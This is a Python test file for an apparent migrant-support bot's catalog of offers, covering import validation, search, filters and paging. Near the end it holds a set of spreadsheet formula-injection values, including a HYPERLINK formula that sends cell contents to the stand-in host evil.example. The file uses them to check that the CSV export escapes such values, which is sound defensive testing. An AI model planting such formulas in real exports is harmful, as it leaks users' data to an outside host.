"""The offers catalog: import all-or-nothing with line numbers, search, filters."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from bot.domain import LifeArea, Offer
from bot.offers_io import COLUMNS, OfferFileError, parse_csv
from bot.ports import UnitOfWorkFactory
from bot.services import offers as offer_service
from tests.fakes import FakeClock

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "samples" / "offers_sample.csv"
ZONE = ZoneInfo("Europe/Berlin")
HEADER = ",".join(COLUMNS)


def _row(**values: str) -> str:
    base = {c: "" for c in COLUMNS}
    base.update(
        external_id="x-1",
        title="Deutschkurs A1",
        provider="VHS (Beispiel)",
        life_areas="language",
        municipality="Essen",
    )
    base.update(values)
    return ",".join(f'"{base[c]}"' for c in COLUMNS)


def _csv(*rows: str) -> bytes:
    """A UTF-8 offers file of these rows under the header."""
    return (HEADER + "\n" + "\n".join(rows) + "\n").encode()


async def _import_rows(
    uow_factory: UnitOfWorkFactory, clock: FakeClock, name: str, rows: list[str]
) -> None:
    await offer_service.import_offers(uow_factory, clock, name=name, data=_csv(*rows))


async def _count(uow_factory: UnitOfWorkFactory) -> int:
    async with uow_factory() as uow:
        return len(await uow.offers.all())


def test_the_sample_catalog_is_valid_and_rich() -> None:
    offers = parse_csv(SAMPLE.read_bytes())
    assert len(offers) >= 60
    assert len({o.municipality for o in offers}) >= 5
    assert {a for o in offers for a in o.life_areas} == set(LifeArea)
    assert sum(not o.open_to_duldung for o in offers) >= 5
    assert {o.diaa_module for o in offers} >= {1, 2, 3, 4, 5}
    assert all(o.description.startswith("[Beispieldaten]") for o in offers)


async def test_import_and_export_round_trip(
    uow_factory: UnitOfWorkFactory, clock: FakeClock
) -> None:
    result = await offer_service.import_offers(
        uow_factory, clock, name="offers.csv", data=SAMPLE.read_bytes()
    )
    assert result.inserted >= 60 and result.updated == 0
    exported = await offer_service.export_offers(uow_factory)
    again = await offer_service.import_offers(
        uow_factory, clock, name="again.csv", data=exported.encode()
    )
    # Nothing changed: nothing counted as updated (issue 18, item 13: it said "70 updated").
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, result.inserted)

    def key(o: Offer) -> str:
        return o.external_id

    assert sorted(parse_csv(exported.encode()), key=key) == sorted(
        parse_csv(SAMPLE.read_bytes()), key=key
    )


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            f"{HEADER}\n{_row()}\n{_row(external_id='x-2', life_areas='language;cooking')}\n",
            ["line 3: life_areas: unknown life area 'cooking'"],
        ),
        (
            f"{HEADER}\n{_row()}\n{_row(title='')}\n",
            ["line 3: title: required", "line 3: external_id: 'x-1' already on line 2"],
        ),
        (
            f"{HEADER}\n{_row(municipality='', diaa_module='7')}\n",
            ["line 2: municipality: required", "line 2: diaa_module: must be from 1 to 5"],
        ),
        (
            f"{HEADER}\n{_row(ends_on='31.12.2026', accessible='ja', eligible_statuses='duldung;refugee')}\n",
            [
                "line 2: ends_on: not an ISO date",
                "line 2: accessible: must be yes or no",
                "line 2: eligible_statuses: unknown status 'refugee'",
            ],
        ),
        (
            "external_id,title\nx,y\n",
            ["line 1: missing columns: provider, life_areas, municipality"],
        ),
    ],
)
async def test_bad_files_are_reported_with_line_numbers_and_nothing_is_imported(
    uow_factory: UnitOfWorkFactory, clock: FakeClock, content: str, expected: list[str]
) -> None:
    with pytest.raises(OfferFileError) as info:
        await offer_service.import_offers(uow_factory, clock, name="bad.csv", data=content.encode())
    messages = [str(e) for e in info.value.errors]
    for part in expected:
        assert any(m.startswith(part) for m in messages), (part, messages)
    assert await _count(uow_factory) == 0


async def test_a_latin1_file_is_refused_with_its_line(
    uow_factory: UnitOfWorkFactory, clock: FakeClock
) -> None:
    content = f"{HEADER}\n{_row()}\n{_row(external_id='x-2', title='Beratung für Familien')}\n"
    with pytest.raises(OfferFileError) as info:
        await offer_service.import_offers(
            uow_factory, clock, name="latin.csv", data=content.encode("latin-1")
        )
    assert str(info.value.errors[0]).startswith("line 3: not UTF-8")
    assert await _count(uow_factory) == 0


async def test_json_import(uow_factory: UnitOfWorkFactory, clock: FakeClock) -> None:
    entries = [
        {
            "external_id": "j-1",
            "title": "Sprachcafé",
            "provider": "Verein (Beispiel)",
            "life_areas": ["language", "leisure"],
            "municipality": "Köln",
            "eligible_statuses": ["duldung", "gestattung"],
            "accessible": True,
        },
        {
            "external_id": "j-2",
            "title": "",
            "provider": "x",
            "life_areas": "money",
            "municipality": "Köln",
        },
    ]
    with pytest.raises(OfferFileError) as info:
        await offer_service.import_offers(
            uow_factory, clock, name="o.json", data=json.dumps(entries, indent=1).encode()
        )
    assert any("title" in str(e) and str(e).startswith("line ") for e in info.value.errors)
    result = await offer_service.import_offers(
        uow_factory, clock, name="o.json", data=json.dumps(entries[:1]).encode()
    )
    assert result.inserted == 1


async def test_reimport_counts_only_changed_offers_as_updated(
    uow_factory: UnitOfWorkFactory, clock: FakeClock
) -> None:
    rows = [_row(), _row(external_id="x-2", title="Sprachcafé")]
    first = await offer_service.import_offers(uow_factory, clock, name="a.csv", data=_csv(*rows))
    assert (first.inserted, first.updated, first.unchanged) == (2, 0, 0)
    edited = [_row(), _row(external_id="x-2", title="Nähcafé"), _row(external_id="x-3")]
    again = await offer_service.import_offers(uow_factory, clock, name="b.csv", data=_csv(*edited))
    assert (again.inserted, again.updated, again.unchanged) == (1, 1, 1)
    # The changed offer is found by its new title only (its search terms were rewritten).
    assert [o.external_id for o in (await _search(uow_factory, clock, text="Nähcafé")).offers] == [
        "x-2"
    ]
    assert not (await _search(uow_factory, clock, text="Sprachcafé")).offers


async def _search(
    uow_factory: UnitOfWorkFactory, clock: FakeClock, **kwargs: Any
) -> offer_service.SearchPage:
    return await offer_service.search_offers(uow_factory, clock, ZONE, page_size=100, **kwargs)


async def test_search_word_forms_filters_and_duldung(
    uow_factory: UnitOfWorkFactory, clock: FakeClock
) -> None:
    await offer_service.import_offers(uow_factory, clock, name="s.csv", data=SAMPLE.read_bytes())
    singular = await _search(uow_factory, clock, text="Deutschkurs")
    plural = await _search(uow_factory, clock, text="Deutschkurse")
    assert singular.total >= 3 and {o.id for o in singular.offers} <= {o.id for o in plural.offers}
    assert any("Deutschkurs" in o.title for o in plural.offers)
    essen = await _search(uow_factory, clock, text="Deutschkurs Essen")
    assert essen.total >= 1 and all(
        o.municipality == "Essen" or "Essen" in o.description for o in essen.offers
    )
    # Filters.
    legal = await _search(uow_factory, clock, life_area="legal")
    assert legal.total >= 3 and all(
        any(a.value == "legal" for a in o.life_areas) for o in legal.offers
    )
    borken = await _search(uow_factory, clock, municipality="Kreis Borken")
    assert borken.total >= 5 and {o.municipality for o in borken.offers} == {"Kreis Borken"}
    dari = await _search(uow_factory, clock, language="fa_AF")
    assert dari.total >= 1 and all("fa_AF" in o.languages for o in dari.offers)
    everything = await _search(uow_factory, clock)
    duldung = await _search(uow_factory, clock, open_to_duldung=True)
    assert duldung.total < everything.total
    assert all(o.open_to_duldung for o in duldung.offers)
    # Offers past their end date are not offered.
    assert all(o.ends_on is None or o.ends_on >= clock.now().date() for o in everything.offers)
    # Paging.
    first = await offer_service.search_offers(uow_factory, clock, ZONE, page=0, page_size=5)
    second = await offer_service.search_offers(uow_factory, clock, ZONE, page=1, page_size=5)
    assert len(first.offers) == 5 and not {o.id for o in first.offers} & {
        o.id for o in second.offers
    }


async def test_title_matches_rank_first(uow_factory: UnitOfWorkFactory, clock: FakeClock) -> None:
    rows = [
        _row(external_id="a", title="Hausaufgabenhilfe", description="Auch Bewerbung üben."),
        _row(external_id="b", title="Bewerbungstraining", description="Lebenslauf schreiben."),
        _row(external_id="c", title="Sportverein", provider="Bewerbung e. V. (Beispiel)"),
    ]
    await _import_rows(uow_factory, clock, "r.csv", rows)
    page = await _search(uow_factory, clock, text="Bewerbung")
    assert [o.external_id for o in page.offers][0] == "b"
    assert {o.external_id for o in page.offers} == {"a", "b", "c"}


async def test_compounds_umlauts_expiry_tiers_and_reimport(
    uow_factory: UnitOfWorkFactory, clock: FakeClock
) -> None:
    rows = [
        _row(external_id="r1", title="Rechtsberatung für junge Geflüchtete", municipality="Köln"),
        _row(external_id="r2", title="Sprachcafé", description="Mit offener Beratung am Abend."),
        _row(external_id="r3", title="Schuldnerberatung", ends_on="2026-01-31"),
        _row(external_id="r4", title="Beratung für Familien", municipality="Kreis Borken"),
        _row(external_id="r5", title="Sportverein", description="Nichts weiter."),
    ]
    await _import_rows(uow_factory, clock, "c.csv", rows)
    found = await _search(uow_factory, clock, text="Beratung")
    # Inside compounds too; the ended offer (r3) neither shown nor counted; title first.
    assert [o.external_id for o in found.offers] == ["r1", "r4", "r2"] and found.total == 3
    assert [o.external_id for o in (await _search(uow_factory, clock, text="koln")).offers] == [
        "r1"
    ]
    assert (await _search(uow_factory, clock, text="Beratung", municipality="Köln")).total == 1
    # Pages across the two tiers: nothing twice, nothing lost, the same total.
    seen = []
    for page in range(3):
        part = await offer_service.search_offers(
            uow_factory, clock, ZONE, text="Beratung", page=page, page_size=1
        )
        assert part.total == 3
        seen += [o.external_id for o in part.offers]
    assert seen == ["r1", "r4", "r2"]
    # Re-importing with a new title forgets the old words.
    rows[0] = _row(external_id="r1", title="Jobcoaching", municipality="Köln")
    await _import_rows(uow_factory, clock, "c.csv", rows)
    again = await _search(uow_factory, clock, text="Beratung")
    assert [o.external_id for o in again.offers] == ["r4", "r2"] and again.total == 2
    assert [o.external_id for o in (await _search(uow_factory, clock, text="coaching")).offers] == [
        "r1"
    ]


async def test_offers_needing_review_go_to_the_sites_coordinator_once(
    uow_factory: UnitOfWorkFactory, clock: FakeClock
) -> None:
    from bot.domain import SiteKind, StaffRole
    from bot.services import staff as staff_service
    from bot.services.sites import add_site

    await offer_service.import_offers(uow_factory, clock, name="s.csv", data=SAMPLE.read_bytes())
    await add_site(uow_factory, clock, slug="koeln", name="Köln", kind=SiteKind.CITY)
    invite = await staff_service.invite_staff(
        uow_factory, clock, site_slug="koeln", role=StaffRole.COORDINATOR
    )
    await staff_service.redeem_staff_invite(
        uow_factory, clock, code=invite.code, telegram_user_id=77, display_name="K"
    )
    flagged = await offer_service.offers_to_review(uow_factory, clock, ZONE)
    assert len(flagged) == 1 and flagged[0][0].telegram_user_id == 77
    assert any(o.external_id == "sample-koeln-008" for o in flagged[0][1])
    assert await offer_service.offers_to_review(uow_factory, clock, ZONE) == []  # once a month


async def test_offers_imported_before_the_suffix_index_are_found_after_it(
    database_url: str, clock: FakeClock
) -> None:
    from sqlalchemy import insert

    from bot.offers_io import parse_file
    from storage import create_engine, make_uow_factory, session_factory, upgrade_database
    from storage.models import OfferRow
    from storage.offer_repositories import _columns
    from tests.conftest import _reset_postgres

    engine = create_engine(database_url)
    try:
        if engine.dialect.name == "postgresql":
            await _reset_postgres(engine)
        await upgrade_database(engine, "0006")
        # A row as revision 0006 stored it (the import of today would also index it).
        (offer,) = parse_file(
            "o.csv",
            _csv(_row(external_id="old", title="Rechtsberatung")),
        )
        async with session_factory(engine)() as session:
            # Core, naming its columns: the model has columns of later revisions (site_id).
            await session.execute(
                insert(OfferRow).values(
                    external_id="old", updated_at=clock.now(), **_columns(offer)
                )
            )
            await session.commit()
        await upgrade_database(engine)
        factory = make_uow_factory(session_factory(engine), clock)
        found = await _search(factory, clock, text="Beratung", open_to_duldung=True)
        assert [o.external_id for o in found.offers] == ["old"] and found.total == 1
    finally:
        await engine.dispose()


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Deutschkurs")',
    "provider": "+SUM(1,2)",
    "description": "-2+3 [Beispieldaten]",
    "address": "@cmd",
    "cost": "\r=1+1",
}


async def test_an_export_opens_safely_in_a_spreadsheet_and_imports_back_unchanged(
    uow_factory: UnitOfWorkFactory, clock: FakeClock
) -> None:
    import csv
    import io

    values = {c: "" for c in COLUMNS} | {
        "external_id": "x-1",
        "life_areas": "language",
        "municipality": "Essen",
        "phone": "+49 201 123456",
        **HOSTILE,
    }
    hostile = io.StringIO()
    csv.writer(hostile).writerows([COLUMNS, [values[c] for c in COLUMNS]])
    await offer_service.import_offers(
        uow_factory, clock, name="hostile.csv", data=hostile.getvalue().encode()
    )
    exported = await offer_service.export_offers(uow_factory)
    row = next(csv.DictReader(io.StringIO(exported, newline="")))
    # Every text cell a spreadsheet would run as a formula starts with the apostrophe.
    for column, value in {**HOSTILE, "phone": "+49 201 123456"}.items():
        assert row[column] == "'" + value.strip(), column
    assert row["municipality"] == "Essen"  # harmless cells are as they were
    # Edited and imported again, the values are the stored ones, without the guard.
    again = await offer_service.import_offers(
        uow_factory, clock, name="again.csv", data=exported.encode()
    )
    assert (again.updated, again.unchanged) == (0, 1)  # the stored values, unguarded
    async with uow_factory() as uow:
        (offer,) = await uow.offers.all()
    assert offer.title == HOSTILE["title"] and offer.phone == "+49 201 123456"
    assert offer.cost == HOSTILE["cost"].strip()


def test_the_statistics_csv_is_guarded_too() -> None:
    from bot.stats_chart import to_csv

    text = to_csv({"clients_by_language": {"=cmd": 5, "de": "<5"}})
    assert text.splitlines() == [
        "figure,category,count",
        "clients_by_language,'=cmd,5",
        "clients_by_language,de,<5",
    ]
